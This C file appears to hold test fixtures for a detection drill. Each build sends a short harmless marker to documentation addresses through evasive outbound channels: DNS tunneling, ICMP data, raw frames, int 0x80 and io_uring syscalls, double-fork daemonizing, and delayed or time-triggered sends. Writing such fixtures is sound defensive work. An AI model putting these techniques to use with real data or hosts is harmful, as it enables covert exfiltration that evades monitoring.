/* Planted senders for the recall table, one class per build (-DCLASS_...). They aim at documentation addresses
   (192.0.2.0/24, .test names) only, send a few bytes, and end; they are run inside a drill's sandbox. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/sysinfo.h>
#include <sys/time.h>
#include <sys/timerfd.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_in peer(const char *ip, int port) {
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
  inet_pton(AF_INET, ip, &a.sin_addr);
  return a;
}
static void udp(int port) {
  struct sockaddr_in a = peer("192.0.2.10", port);
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  sendto(s, "planted datagram", 16, 0, (struct sockaddr *)&a, sizeof a);
}
static int tcp(int port) {
  struct sockaddr_in a = peer("192.0.2.10", port);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct timeval t = {.tv_sec = 2};
  setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof t);
  if (connect(s, (struct sockaddr *)&a, sizeof a)) return -1;
  return send(s, "planted", 7, 0) == 7 ? 0 : -1;
}
#ifdef CLASS_IO_URING
static void ring_udp(int port) {
  struct io_uring_params p = {0};
  int r = syscall(SYS_io_uring_setup, 4, &p);
  if (r < 0) return;
  char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, r, IORING_OFF_SQ_RING);
  struct io_uring_sqe *e = mmap(0, p.sq_entries * 64, PROT_READ | PROT_WRITE, MAP_SHARED, r, IORING_OFF_SQES);
  struct sockaddr_in a = peer("192.0.2.10", port);
  struct iovec v = {"planted ring", 12};
  struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1};
  memset(e, 0, 64);
  e->opcode = IORING_OP_SENDMSG;
  e->fd = socket(AF_INET, SOCK_DGRAM, 0);
  e->addr = (unsigned long)&m;
  e->len = 1;
  *(unsigned *)(sq + p.sq_off.array) = 0;
  __atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
  syscall(SYS_io_uring_enter, r, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
}
#endif
int main(int argc, char **argv) {
  int port = argc > 1 ? atoi(argv[1]) : 2000;
  (void)tcp; (void)udp;
#if defined CLASS_PLAIN
  tcp(port);
#elif defined CLASS_DOUBLE_FORK
  if (fork()) return 0;
  setsid();
  if (fork()) return 0;
  usleep(200000);
  udp(port);
#elif defined CLASS_DNS_TUNNEL
  unsigned char q[200] = {7, 7, 1, 0, 0, 1};
  int n = 12, s = socket(AF_INET, SOCK_DGRAM, 0);
  q[n++] = 48;
  for (int i = 0; i < 48; i++) q[n++] = "abcdefghijklmnopqrstuvwxyz234567"[(i * 7 + i * i * 3 + 11) % 32];
  n += sprintf((char *)q + n, "%c%s%c%s", 8, "tunneled", 4, "test") + 1;
  q[n++] = 0; q[n++] = 16; q[n++] = 0; q[n++] = 1;
  struct sockaddr_in a = peer("192.0.2.10", 53);
  sendto(s, q, n, 0, (struct sockaddr *)&a, sizeof a);
#elif defined CLASS_ICMP
  struct { struct icmphdr h; char data[48]; } m = {.h = {.type = 8}};
  strcpy(m.data, "data in an echo request, planted");
  struct sockaddr_in a = peer("192.0.2.11", 0);
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP), raw = s >= 0;
  if (!raw) s = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
  sendto(s, &m, sizeof m, 0, (struct sockaddr *)&a, sizeof a);
#elif defined CLASS_RAW_FRAME
  int s = socket(AF_PACKET, SOCK_RAW, htons(0x88b6));
  unsigned char f[64] = {2, 1, 2, 3, 4, 5, 2, 0, 0, 0, 0x6f, 2, 0x88, 0xb6, 'p', 'l', 'a', 'n', 't'};
  struct sockaddr_ll a = {.sll_family = AF_PACKET, .sll_halen = 6};
  for (int i = 1; i < 10; i++) { a.sll_ifindex = i; sendto(s, f, sizeof f, 0, (struct sockaddr *)&a, sizeof a); }
#elif defined CLASS_UNIX
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path, argv[2], sizeof a.sun_path - 1);
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (!connect(s, (struct sockaddr *)&a, sizeof a)) send(s, "planted", 7, 0);
#elif defined CLASS_INT_80
  long s, r;
  static unsigned int args[3] __attribute__((section(".data")));
  struct sockaddr_in *a = mmap((void *)0x10000000, 4096, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
  *a = peer("192.0.2.10", port);
  (void)args;
  __asm__ volatile("int $0x80" : "=a"(s) : "a"(359), "b"(2), "c"(1), "d"(0) : "r8", "r9", "r10", "r11", "memory");
  __asm__ volatile("int $0x80" : "=a"(r) : "a"(362), "b"(s), "c"((int)(long)a), "d"(16) : "r8", "r9", "r10", "r11", "memory");
#elif defined CLASS_IO_URING
  ring_udp(port);
#elif defined CLASS_DATE
  if (time(0) > atol(argv[2])) udp(port);
#elif defined CLASS_UPTIME
  struct timespec t;
  clock_gettime(CLOCK_BOOTTIME, &t);
  if (t.tv_sec > atol(argv[2])) udp(port);
#elif defined CLASS_UPTIME_SYSINFO
  struct sysinfo i;
  sysinfo(&i);
  if (i.uptime > atol(argv[2])) udp(port);
#elif defined CLASS_ONLINE
  if (!tcp(port)) udp(port + 1000);
#elif defined CLASS_DELAYED
  sleep(300);
  udp(port);
#elif defined CLASS_DELAYED_EPOLL
  struct epoll_event e;
  for (int i = 0; i < 30; i++) epoll_wait(epoll_create1(0), &e, 1, 10000);
  udp(port);
#elif defined CLASS_DELAYED_TIMERFD
  struct itimerspec t = {.it_value = {.tv_sec = 300}};
  unsigned long n;
  int f = timerfd_create(CLOCK_MONOTONIC, 0);
  timerfd_settime(f, 0, &t, 0);
  if (read(f, &n, 8) == 8) udp(port);
#endif
  usleep(100000);
  return 0;
}
